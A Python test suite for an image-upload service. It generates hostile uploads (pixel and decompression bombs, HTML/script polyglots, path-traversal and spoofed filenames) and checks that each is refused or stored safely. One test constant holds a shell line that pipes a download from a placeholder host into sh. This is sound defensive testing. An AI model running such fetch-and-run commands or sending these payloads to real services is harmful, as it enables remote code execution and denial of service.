"""Hostile uploads, one place for all of them: a corpus generated here (Pillow, numpy, hand-made bytes;
no file is checked in) and, for each, the one answer the service gives.

A refusal is a 4xx with `{"detail", "code"}` and leaves nothing behind: no row, no original, no thumbnail,
no staged file in STORAGE_ROOT/tmp, and /health still answers `ok`. An acceptance is a 2xx whose record
describes the bytes that were sent (format from the content, not from the name or the Content-Type;
width and height after EXIF orientation; size and SHA-256 of the whole upload) and whose original is
served back byte for byte. Never a 500.

What the service decides, case by case (the table below is the reference):

- The client's Content-Type and the file's extension are ignored: the format comes from the content.
  A PNG sent as text/plain is stored as image/png, a JPEG sent as image/png as image/jpeg.
- A polyglot that decodes completely as an allowed format is stored as that format, all of its bytes
  (a GIF with HTML after its trailer, a JPEG with a ZIP appended); the original is served with the
  image's own media type. A GIF signature followed by script is not an image: 400 invalid_image.
- Pixel bombs are refused from their headers (422 image_too_large), whatever the format, before any
  pixel is decoded: PNG, JPEG, TIFF, BMP and WebP headers, a GIF screen or GIF frame, a PNG inside an ICO.
  Very long thin images under the limit (1x65535) are stored.
- Formats outside the allow-list are 415 unsupported_format (PSD, TGA, FITS, EPS, PCX, XBM, SGI, PPM,
  ICO), recognised by Pillow and refused before decoding (EPS needs no Ghostscript for that).
- A damaged or oversized EXIF block only loses what it would have told (date, orientation): the image is
  stored. A compressed PNG text chunk that inflates past Pillow's limit is 400 invalid_image.
- Filenames are reduced to their last path component, without control or format characters (NUL, the
  RTL override), NFC-normalised and at most 255 characters; an empty result becomes "upload". A name
  longer than a multipart part-header line may be (python-multipart: about 4 KB) is 400
  malformed_multipart. A multipart `charset` that cannot decode names (base64, idna, ...) means UTF-8.
- Every refusal also fails alone inside a batch, and POST /search/image refuses the same files the same way.
"""

from __future__ import annotations

import hashlib
import io
import struct
import unicodedata
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass

import httpx
import numpy as np
import pytest
from PIL import Image

from backend.config import Settings
from backend.services.uploads import MAX_FILENAME_LENGTH
from tests.api.test_multipart import HEADERS, body, part
from tests.conftest import AppRunner
from tests.helpers import make_image_bytes, stored_files

# ---------------------------------------------------------------------------------------------- corpus


def encode(image: Image.Image, fmt: str, **save_args: object) -> bytes:
    buffer = io.BytesIO()
    image.save(buffer, format=fmt, **save_args)
    return buffer.getvalue()


def truncated(fmt: str) -> bytes:
    data = make_image_bytes(5, fmt=fmt, size=(200, 150))
    return data[: len(data) // 2]


def png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png(width: int, height: int, bit_depth: int, colour_type: int, rows: bytes) -> bytes:
    """A PNG written by hand, so that its header can declare anything."""
    ihdr = struct.pack(">IIBBBBB", width, height, bit_depth, colour_type, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + png_chunk(b"IHDR", ihdr) + png_chunk(b"IDAT", rows) + png_chunk(b"IEND", b"")


def png_bomb(width: int = 20_000, height: int = 20_000) -> bytes:
    """A complete, valid 1-bit PNG of width x height black pixels: ~50 MB of rows, ~50 KB on the wire."""
    row = b"\0" * (1 + (width + 7) // 8)  # filter byte + packed bits
    compressor = zlib.compressobj(9)
    rows = b"".join(compressor.compress(row) for _ in range(height)) + compressor.flush()
    return png(width, height, 1, 0, rows)


def png_rgb16(width: int = 30, height: int = 20) -> bytes:
    """16 bits per channel RGB, which Pillow cannot write."""
    row = b"\0" + np.tile(np.array([60000, 30000, 1000], ">u2"), width).tobytes()
    return png(width, height, 16, 2, zlib.compress(row * height))


def png_idat_overflow(size: int = 64) -> bytes:
    """A 64x64 PNG whose image data inflates to 20 MB: everything past the 64 rows must be ignored."""
    rows = b"\0" * ((1 + size) * size + 20_000_000)
    return png(size, size, 8, 0, zlib.compress(rows, 9))


def png_text_bomb() -> bytes:
    """A small valid PNG with a zTXt chunk that inflates to 50 MB."""
    data = make_image_bytes(5, fmt="PNG", size=(40, 30))
    chunk = png_chunk(b"zTXt", b"Comment\0\0" + zlib.compress(b"\0" * 50_000_000, 9))
    return data[:33] + chunk + data[33:]  # after the signature and IHDR


def png_bad_crc() -> bytes:
    data = bytearray(make_image_bytes(6, fmt="PNG", size=(40, 30)))
    data[29] ^= 0xFF  # IHDR's CRC
    return bytes(data)


def gif(screen: tuple[int, int] = (1, 1), frame: tuple[int, int] = (1, 1)) -> bytes:
    """A GIF written by hand: logical screen and first frame of any declared size, one pixel of data."""
    head = b"GIF89a" + struct.pack("<HHBBB", *screen, 0x80, 0, 0) + b"\0\0\0\xff\xff\xff"  # 2-colour table
    frame_descriptor = b"," + struct.pack("<HHHHB", 0, 0, *frame, 0)
    return head + frame_descriptor + b"\x02\x02\x44\x01\x00;"  # LZW: clear, colour 0, end


def declaring(fmt: str, width: int, height: int) -> bytes:
    """A small valid image whose header is patched to declare width x height (its data stays tiny)."""
    if fmt == "JPEG":
        data = bytearray(make_image_bytes(3, size=(80, 60)))
        sof = data.index(b"\xff\xc0")
        data[sof + 5 : sof + 9] = struct.pack(">HH", height, width)
    elif fmt == "BMP":
        data = bytearray(make_image_bytes(3, fmt="BMP", size=(8, 8)))
        data[18:26] = struct.pack("<ii", width, height)
    elif fmt == "WEBP":  # the VP8X chunk's canvas size, 24 bits each, minus one
        data = bytearray(encode(Image.new("RGBA", (8, 8), (1, 2, 3, 4)), "WEBP", exif=jpeg_orientation_exif(1)))
        vp8x = data.index(b"VP8X")
        data[vp8x + 12 : vp8x + 18] = (width - 1).to_bytes(3, "little") + (height - 1).to_bytes(3, "little")
    else:  # TIFF, written by hand: one uncompressed 1-bit strip of 16 bytes
        tags = [
            (256, 4, 1, width),
            (257, 4, 1, height),
            (258, 3, 1, 1),
            (259, 3, 1, 1),
            (262, 3, 1, 0),
            (273, 4, 1, 8 + 2 + 12 * 9 + 4),
            (277, 3, 1, 1),
            (278, 4, 1, height),
            (279, 4, 1, 16),
        ]
        ifd = struct.pack("<H", len(tags)) + b"".join(struct.pack("<HHII", *tag) for tag in tags) + bytes(4)
        return b"II*\0" + struct.pack("<I", 8) + ifd + bytes(16)
    return bytes(data)


def animated_gif() -> bytes:
    frames = [Image.new("RGB", (40, 30), colour) for colour in ((255, 0, 0), (0, 255, 0), (0, 0, 255))]
    return encode(frames[0], "GIF", save_all=True, append_images=frames[1:], duration=100, loop=0)


def ico(count: int, entries: int, embedded: bytes) -> bytes:
    """An ICO declaring `count` images, with `entries` directory entries all pointing at one embedded PNG."""
    offset = 6 + 16 * entries
    entry = struct.pack("<BBBBHHII", 0, 0, 0, 0, 1, 32, len(embedded), offset)
    return struct.pack("<HHH", 0, 1, count) + entry * entries + embedded


def icon() -> bytes:
    return make_image_bytes(9, fmt="PNG", size=(16, 16))


def psd(width: int = 4, height: int = 3) -> bytes:
    """Photoshop: header, empty colour-mode/resources/layers sections, raw RGB planes."""
    header = b"8BPS" + struct.pack(">H6xHIIHH", 1, 3, height, width, 8, 3)
    return header + struct.pack(">III", 0, 0, 0) + struct.pack(">H", 0) + bytes(3 * width * height)


def fits(width: int = 4, height: int = 3) -> bytes:
    """FITS: 80-character header cards in a 2880-byte block, then the 8-bit data block."""
    cards = [
        "SIMPLE  =                    T",
        "BITPIX  =                    8",
        "NAXIS   =                    2",
        f"NAXIS1  = {width:20d}",
        f"NAXIS2  = {height:20d}",
        "END",
    ]
    return "".join(card.ljust(80) for card in cards).ljust(2880).encode() + bytes(width * height).ljust(2880, b"\0")


def eps() -> bytes:
    return (
        b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 10 10\n%%EndComments\n"
        b"newpath 0 0 moveto 10 10 lineto stroke showpage\n%%EOF\n"
    )


def jpeg_with_app1(payload: bytes) -> bytes:
    """An 80x60 JPEG with an APP1 segment (EXIF) inserted right after SOI."""
    data = make_image_bytes(3, size=(80, 60))
    return data[:2] + b"\xff\xe1" + struct.pack(">H", len(payload) + 2) + payload + data[2:]


def exif_block(*entries: tuple[int, int, int, int], next_ifd: int = 0) -> bytes:
    """A little-endian TIFF header with IFD0 at offset 8 holding (tag, type, count, value) entries."""
    ifd = struct.pack("<H", len(entries)) + b"".join(struct.pack("<HHII", *e) for e in entries)
    return b"Exif\0\0II*\0" + struct.pack("<I", 8) + ifd + struct.pack("<I", next_ifd)


def jpeg_huge_exif() -> bytes:
    """~60 KB of EXIF, close to the 64 KB a JPEG segment can hold."""
    exif = Image.Exif()
    exif[0x010E] = "A" * 60_000  # ImageDescription
    exif[0x0112] = 1
    return encode(Image.open(io.BytesIO(make_image_bytes(4, size=(80, 60)))), "JPEG", exif=exif.tobytes())


def jpeg_orientation_exif(value: int) -> bytes:
    exif = Image.Exif()
    exif[0x0112] = value
    return exif.tobytes()


def jpeg_orientation(value: int) -> bytes:
    return encode(Image.new("RGB", (80, 40), (10, 120, 200)), "JPEG", exif=jpeg_orientation_exif(value))


def jpeg_mpf_past_the_end() -> bytes:
    """A JPEG with an APP2 multi-picture index (MPO) whose second image lies a gigabyte past the end."""
    entries = [(0xB000, 7, 4, 0x30313030), (0xB001, 4, 1, 2), (0xB002, 7, 32, 8 + 2 + 12 * 3 + 4)]
    ifd = struct.pack(">H", 3) + b"".join(struct.pack(">HHII", *entry) for entry in entries) + bytes(4)
    images = struct.pack(">IIIHH", 0x20030000, 10**9, 0, 0, 0) + struct.pack(">IIIHH", 0, 10**9, 10**9, 0, 0)
    payload = b"MPF\0MM\0*" + struct.pack(">I", 8) + ifd + images
    data = make_image_bytes(3, size=(80, 60))
    return data[:2] + b"\xff\xe2" + struct.pack(">H", len(payload) + 2) + payload + data[2:]


def jpeg_zip() -> bytes:
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as zipped:
        zipped.writestr("index.html", "<script>alert(1)</script>")
    return make_image_bytes(7, size=(70, 50)) + archive.getvalue()


def grey16(size: tuple[int, int]) -> Image.Image:
    ramp = (np.arange(size[0] * size[1], dtype=np.uint32).reshape(size[1], size[0]) * 97) % 65536
    image = Image.fromarray(ramp.astype(np.uint16))
    assert image.mode == "I;16"
    return image


def palette_with_transparency() -> bytes:
    image = Image.open(io.BytesIO(make_image_bytes(8, fmt="PNG", size=(50, 70)))).convert("P")
    return encode(image, "PNG", transparency=0)


# ----------------------------------------------------------------------------------------------- table


@dataclass(frozen=True)
class Case:
    id: str
    make: Callable[[], bytes]
    ctype: str  # the Content-Type of the part
    status: int
    code: str | None = None  # for a refusal
    stored_as: str | None = None  # for an acceptance: the record's content_type
    size: tuple[int, int] | None = None  # for an acceptance: the record's (width, height)
    mode: str | None = None  # what the generated file really is, checked before sending
    name: str = "upload.jpg"


def refused(id: str, make: Callable[[], bytes], status: int, code: str, ctype: str = "image/jpeg") -> Case:
    return Case(id, make, ctype, status, code=code)


def stored(
    id: str,
    make: Callable[[], bytes],
    stored_as: str,
    size: tuple[int, int],
    mode: str | None = None,
    sent_as: str | None = None,  # the part's Content-Type; by default the right one
) -> Case:
    return Case(id, make, sent_as or stored_as, 201, stored_as=stored_as, size=size, mode=mode)


TEXT = b"Dear diary, today I uploaded a text file.\n"
HTML = b"<!doctype html><html><body><script>fetch('/images').then(r => r.text())</script></body></html>"
SHELL = b"#!/bin/sh\nset -e\ncurl -s http://example.invalid/x | sh\n"
NOT_ALLOWED = "unsupported_format"
JPEG, PNG = "image/jpeg", "image/png"
EXIF_HEADER = b"Exif\0\0II*\0" + struct.pack("<I", 8)  # IFD0 right after the TIFF header; its entry count next
IFD_LOOP = [(0x8769, 4, 1, 8), (0x0112, 3, 1, 6)]  # Exif sub-IFD at offset 8 (IFD0 itself), Orientation 6

CORPUS = [
    # Not images, or not whole ones.
    refused("truncated-jpeg", lambda: truncated("JPEG"), 400, "invalid_image"),
    refused("truncated-png", lambda: truncated("PNG"), 400, "invalid_image", "image/png"),
    refused("jpeg-headers-only", lambda: make_image_bytes(5)[:20], 400, "invalid_image"),
    refused("png-bad-crc", png_bad_crc, 400, "invalid_image", "image/png"),
    refused("zero-bytes", lambda: b"", 400, "empty_file"),
    refused("text-as-jpg", lambda: TEXT, 400, "invalid_image"),
    refused("html-as-jpg", lambda: HTML, 400, "invalid_image"),
    refused("shell-script-as-jpg", lambda: SHELL, 400, "invalid_image"),
    refused(
        "gif-signature-then-script", lambda: b"GIF89a/*\0\0\0\0*/=alert(1);" + HTML, 400, "invalid_image", "image/gif"
    ),
    refused("png-ztxt-bomb", png_text_bomb, 400, "invalid_image", "image/png"),
    # Pixel bombs: refused from the header.
    refused("png-bomb-20000x20000", png_bomb, 422, "image_too_large", "image/png"),
    refused("gif-bomb-screen", lambda: gif(screen=(65535, 65535)), 422, "image_too_large", "image/gif"),
    refused("gif-bomb-frame", lambda: gif(frame=(65535, 65535)), 422, "image_too_large", "image/gif"),
    refused("jpeg-declares-65500x65500", lambda: declaring("JPEG", 65500, 65500), 422, "image_too_large"),
    refused(
        "tiff-declares-100000x100000", lambda: declaring("TIFF", 100_000, 100_000), 422, "image_too_large", "image/tiff"
    ),
    refused(
        "bmp-declares-100000x100000", lambda: declaring("BMP", 100_000, 100_000), 422, "image_too_large", "image/bmp"
    ),
    refused("webp-declares-16384x16384", lambda: declaring("WEBP", 16384, 16384), 422, "image_too_large", "image/webp"),
    refused("ico-bomb-embedded-png", lambda: ico(1, 1, png_bomb()), 422, "image_too_large", "image/x-icon"),
    refused("ico-declares-65535-frames", lambda: ico(65535, 1, icon()), 400, "invalid_image", "image/x-icon"),
    refused("ico-4096-frames", lambda: ico(4096, 4096, icon()), 415, NOT_ALLOWED, "image/x-icon"),
    # Formats outside the allow-list.
    refused("psd", psd, 415, NOT_ALLOWED, "image/vnd.adobe.photoshop"),
    refused("tga", lambda: make_image_bytes(10, fmt="TGA"), 415, NOT_ALLOWED, "image/x-tga"),
    refused("fits", fits, 415, NOT_ALLOWED, "image/fits"),
    refused("eps", eps, 415, NOT_ALLOWED, "application/postscript"),
    refused("pcx", lambda: make_image_bytes(11, fmt="PCX"), 415, NOT_ALLOWED, "image/x-pcx"),
    refused("xbm", lambda: make_image_bytes(12, fmt="XBM", mode="1"), 415, NOT_ALLOWED, "image/x-xbitmap"),
    refused("sgi", lambda: make_image_bytes(13, fmt="SGI"), 415, NOT_ALLOWED, "image/sgi"),
    refused("ppm", lambda: make_image_bytes(14, fmt="PPM"), 415, NOT_ALLOWED, "image/x-portable-pixmap"),
    refused("ico", lambda: make_image_bytes(15, fmt="ICO", size=(32, 32)), 415, NOT_ALLOWED, "image/x-icon"),
    # Valid images in allowed formats, unusual modes: stored, with the right dimensions.
    stored("cmyk-jpeg", lambda: make_image_bytes(20, size=(90, 60), mode="CMYK"), JPEG, (90, 60), "CMYK"),
    stored("png-16bit-grey", lambda: encode(grey16((70, 50)), "PNG"), PNG, (70, 50), "I;16"),
    stored("png-16bit-rgb", png_rgb16, PNG, (30, 20)),
    stored("tiff-16bit-grey", lambda: encode(grey16((50, 70)), "TIFF"), "image/tiff", (50, 70), "I;16"),
    stored("png-palette", lambda: make_image_bytes(21, fmt="PNG", size=(64, 48), mode="P"), PNG, (64, 48), "P"),
    stored("png-palette-transparent", palette_with_transparency, PNG, (50, 70), "P"),
    stored("png-la", lambda: make_image_bytes(22, fmt="PNG", size=(48, 64), mode="LA"), PNG, (48, 64), "LA"),
    stored("gif-animated", animated_gif, "image/gif", (40, 30), "P"),
    stored("png-idat-inflates-past-the-image", png_idat_overflow, PNG, (64, 64), "L"),
    # Extreme aspect ratios: CLIP's preprocessing must not blow a 1-pixel side up to 224 (a 14-million-pixel row).
    stored("png-1x65535", lambda: encode(Image.new("RGB", (1, 65535), (9, 99, 199)), "PNG"), PNG, (1, 65535)),
    stored("png-65535x1", lambda: encode(Image.new("L", (65535, 1), 77), "PNG"), PNG, (65535, 1)),
    stored("jpeg-mpf-index-past-the-end", jpeg_mpf_past_the_end, JPEG, (80, 60), "RGB"),
    # EXIF: damaged or oversized blocks cost the metadata, not the image.
    stored("jpeg-60kb-exif", jpeg_huge_exif, JPEG, (80, 60)),
    stored("jpeg-exif-65535-entries", lambda: jpeg_with_app1(EXIF_HEADER + b"\xff\xff" + b"\x12" * 20), JPEG, (80, 60)),
    stored("jpeg-exif-garbage", lambda: jpeg_with_app1(b"Exif\0\0" + bytes(range(256)) * 4), JPEG, (80, 60)),
    # IFD0 says "rotate 90" and points its Exif sub-IFD and its successor back at itself.
    stored("jpeg-exif-ifd-loop", lambda: jpeg_with_app1(exif_block(*IFD_LOOP, next_ifd=8)), JPEG, (60, 80)),
    stored("jpeg-exif-orientation-9", lambda: jpeg_orientation(9), JPEG, (80, 40)),
    # Polyglots that are complete images: stored as the image they are, every byte of them.
    stored("gif-then-html", lambda: animated_gif() + HTML, "image/gif", (40, 30)),
    stored("jpeg-then-zip", jpeg_zip, JPEG, (70, 50)),
    # The client's Content-Type is not believed: the content decides.
    stored(
        "png-sent-as-text-plain",
        lambda: make_image_bytes(23, fmt="PNG", size=(33, 44)),
        PNG,
        (33, 44),
        sent_as="text/plain",
    ),
    stored("jpeg-sent-as-image-png", lambda: make_image_bytes(24, size=(44, 33)), JPEG, (44, 33), sent_as=PNG),
]


# -------------------------------------------------------------------------------------------- checking


async def image_count(client: httpx.AsyncClient) -> int:
    response = await client.get("/images")
    assert response.status_code == 200
    return int(response.json()["count"])


async def assert_healthy(client: httpx.AsyncClient, images: int) -> None:
    response = await client.get("/health")
    assert response.status_code == 200
    health = response.json()
    assert health["status"] == "ok"
    assert health["images"] == images
    assert health["index"]["size"] == images


def stored_under(settings: Settings, folder: str) -> list:
    return [p for p in stored_files(settings.storage_root) if folder in p.relative_to(settings.storage_root).parts]


async def assert_refused(
    client: httpx.AsyncClient, settings: Settings, response: httpx.Response, status: int, code: str, before: int
) -> None:
    assert response.status_code == status, response.text
    error = response.json()
    assert error["code"] == code
    assert isinstance(error["detail"], str) and error["detail"]
    assert await image_count(client) == before
    assert len(stored_under(settings, "originals")) == before
    assert len(stored_under(settings, "thumbnails")) == before
    assert stored_under(settings, "tmp") == []
    await assert_healthy(client, before)


async def assert_stored(client: httpx.AsyncClient, settings: Settings, record: dict, data: bytes) -> None:
    """The record describes the bytes sent, and both files are there and served."""
    assert record["size_bytes"] == len(data)
    assert record["sha256"] == hashlib.sha256(data).hexdigest()
    original = await client.get(record["file_url"])
    assert original.status_code == 200
    assert original.content == data
    assert original.headers["content-type"] == record["content_type"]
    thumbnail = await client.get(record["thumbnail_url"])
    assert thumbnail.status_code == 200
    with Image.open(io.BytesIO(thumbnail.content)) as thumb:
        assert thumb.format == "JPEG"
        assert max(thumb.size) <= settings.thumbnail_size
        if abs(record["width"] - record["height"]) > 2:  # same orientation as the record says
            assert (thumb.width > thumb.height) == (record["width"] > record["height"])
    assert stored_under(settings, "tmp") == []


# ----------------------------------------------------------------------------------------------- tests


@pytest.mark.parametrize("case", CORPUS, ids=[case.id for case in CORPUS])
async def test_hostile_upload(client: httpx.AsyncClient, settings: Settings, case: Case) -> None:
    data = case.make()
    assert len(data) < 300_000, "the corpus is meant to be small on the wire"
    if case.mode is not None:
        with Image.open(io.BytesIO(data)) as generated:
            assert generated.mode == case.mode, "the generated file is not what the case says"
    response = await client.post("/images", files={"file": (case.name, data, case.ctype)})
    if case.code is not None:
        await assert_refused(client, settings, response, case.status, case.code, before=0)
        return
    assert response.status_code == case.status, response.text
    record = response.json()
    assert record["content_type"] == case.stored_as
    assert record["filename"] == case.name
    assert (record["width"], record["height"]) == case.size
    await assert_stored(client, settings, record, data)
    assert len(stored_under(settings, "originals")) == len(stored_under(settings, "thumbnails")) == 1
    await assert_healthy(client, 1)


async def test_every_refusal_in_one_batch_fails_alone(client: httpx.AsyncClient, settings: Settings) -> None:
    """The whole refused corpus next to one good image in a single request: the good one is stored, each
    hostile file fails with its own status and code, and no staged file is left."""
    bad = [case for case in CORPUS if case.code is not None]
    good = make_image_bytes(30, size=(64, 40))
    files = [("files", (case.id, case.make(), case.ctype)) for case in bad]
    files.insert(len(files) // 2, ("files", ("good.jpg", good, "image/jpeg")))
    response = await client.post("/images", files=files)
    assert response.status_code == 201, response.text
    batch = response.json()
    assert (batch["created"], batch["failed"]) == (1, len(bad))
    failures = {item["filename"]: item["error"] for item in batch["items"] if item["status"] == "failed"}
    assert failures == {
        case.id: {"status": case.status, "code": case.code, "detail": failures[case.id]["detail"]} for case in bad
    }
    assert all(error["detail"] for error in failures.values())
    created = next(item["image"] for item in batch["items"] if item["status"] == "created")
    await assert_stored(client, settings, created, good)
    assert len(stored_under(settings, "originals")) == len(stored_under(settings, "thumbnails")) == 1
    await assert_healthy(client, 1)


async def test_search_by_image_refuses_the_same_corpus(client: httpx.AsyncClient, settings: Settings) -> None:
    """POST /search/image decodes the query image with the same rules and stores nothing either way."""
    for case in CORPUS:
        response = await client.post("/search/image", files={"file": (case.name, case.make(), case.ctype)})
        if case.code is not None:
            assert (response.status_code, response.json()["code"]) == (case.status, case.code), case.id
        else:
            assert response.status_code == 200, f"{case.id}: {response.text}"
    assert stored_files(settings.storage_root) == []
    await assert_healthy(client, 0)


async def test_just_over_the_pixel_limit_is_refused(run_app: AppRunner, settings: Settings) -> None:
    async with run_app(max_image_pixels=10_000) as client:
        over = await client.post(
            "/images", files={"file": ("over.png", make_image_bytes(40, fmt="PNG", size=(101, 100)), "image/png")}
        )
        await assert_refused(client, settings, over, 422, "image_too_large", before=0)
        assert "10100" in over.json()["detail"] and "10000" in over.json()["detail"]
        at_limit = await client.post(
            "/images", files={"file": ("at.png", make_image_bytes(41, fmt="PNG", size=(100, 100)), "image/png")}
        )
        assert at_limit.status_code == 201, at_limit.text
        assert (at_limit.json()["width"], at_limit.json()["height"]) == (100, 100)
        await assert_healthy(client, 1)


def visible(name: str) -> bool:
    return not any(unicodedata.category(ch).startswith("C") for ch in name)


# (sent, kept): kept None means "bounded and safe", checked by the rules rather than spelled out.
FILENAMES = [
    pytest.param("../../x.jpg", "x.jpg", id="dot-dot-slash"),
    pytest.param("..\\..\\windows\\win.ini.jpg", "win.ini.jpg", id="dot-dot-backslash"),
    pytest.param("/etc/passwd", "passwd", id="absolute-path"),
    pytest.param("..", "upload", id="only-dots"),
    pytest.param("a" * 4_000 + ".jpg", None, id="4kb-name"),
    pytest.param("🐱" * 1_000 + ".jpg", None, id="4kb-of-emoji"),
    pytest.param("evil\x00.php.jpg", "evil.php.jpg", id="nul-byte"),
    pytest.param("bell\x07\x1b[31mred.jpg", "bell[31mred.jpg", id="control-chars"),
    pytest.param("photo\u202egpj.exe", "photogpj.exe", id="rtl-override"),
    pytest.param("🐱 on the 🏖️.jpg", "🐱 on the 🏖️.jpg", id="emoji"),
    pytest.param("e\u0301te\u0301.jpg", "\u00e9t\u00e9.jpg", id="combining-marks-nfc"),
    pytest.param("Z\u0351\u0352\u0353" * 200 + ".jpg", None, id="zalgo"),
]


@pytest.mark.parametrize(("sent", "kept"), FILENAMES)
async def test_absurd_filenames_are_stored_under_a_safe_name(
    client: httpx.AsyncClient, settings: Settings, sent: str, kept: str | None
) -> None:
    # Built by hand: httpx would percent-encode the NUL and the control characters.
    content = body(part("file", make_image_bytes(50), filename=sent))
    response = await client.post("/images", content=content, headers=HEADERS)
    assert response.status_code == 201, response.text
    name = response.json()["filename"]
    assert "/" not in name and "\\" not in name and name not in (".", "..")
    assert 0 < len(name) <= MAX_FILENAME_LENGTH
    assert visible(name)
    assert name == unicodedata.normalize("NFC", name)
    if kept is not None:
        assert name == kept
    else:
        assert name.endswith(".jpg")
    served = await client.get(response.json()["file_url"])
    assert served.status_code == 200
    assert (await client.get(f"/images/{response.json()['id']}")).json()["filename"] == name
    assert len(stored_under(settings, "originals")) == 1
    await assert_healthy(client, 1)


@pytest.mark.parametrize("sent", ["a" * 10_240 + ".jpg", "🐱" * 3_000 + ".jpg"], ids=["10kb-name", "12kb-of-emoji"])
async def test_filename_longer_than_a_part_header_may_be_is_refused(
    client: httpx.AsyncClient, settings: Settings, sent: str
) -> None:
    """python-multipart bounds a part's header line (about 4 KB), so such a name never reaches the service."""
    content = body(part("file", make_image_bytes(51), filename=sent))
    response = await client.post("/images", content=content, headers=HEADERS)
    await assert_refused(client, settings, response, 400, "malformed_multipart", before=0)
    assert "header" in response.json()["detail"]


UNUSABLE_CHARSETS = ["rot13", "base64", "hex", "zlib", "bz2", "uu", "quopri", "idna", "undefined", "no-such-charset"]


async def test_multipart_charset_that_cannot_decode_falls_back_to_utf8(
    client: httpx.AsyncClient, settings: Settings
) -> None:
    """`multipart/form-data; charset=...` names the encoding of part names and filenames. A codec that is not
    a text encoding (rot13, base64: LookupError) or fails whatever the error handler (idna, undefined:
    UnicodeError) used to escape as a 500; such a charset is now ignored like an unknown one: UTF-8."""
    for seed, charset in enumerate(UNUSABLE_CHARSETS):
        content = body(part("file", make_image_bytes(60 + seed), filename="café.jpg"))
        headers = {"content-type": f"{HEADERS['content-type']}; charset={charset}"}
        response = await client.post("/images", content=content, headers=headers)
        assert response.status_code == 201, f"{charset}: {response.text}"
        assert response.json()["filename"] == "café.jpg", charset
    assert stored_under(settings, "tmp") == []
    await assert_healthy(client, len(UNUSABLE_CHARSETS))
